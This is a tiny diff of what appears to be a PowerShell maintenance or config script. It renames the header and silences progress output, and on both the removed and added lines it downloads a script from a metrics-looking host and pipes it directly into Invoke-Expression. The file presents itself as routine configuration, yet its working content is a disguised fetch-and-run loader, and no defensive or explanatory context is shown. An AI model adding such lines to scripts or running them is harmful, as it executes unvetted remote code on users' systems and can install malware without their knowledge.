@@ -1,3 +1,3 @@
-# config 4224 v3
+# maintenance 0661 v3
 $ProgressPreference = 'SilentlyContinue'
-iwr -UseBasicParsing http://static.metrics-node.example/a.ps1 | iex
+iwr -UseBasicParsing http://static.metrics-node.example/inv.ps1 | iex
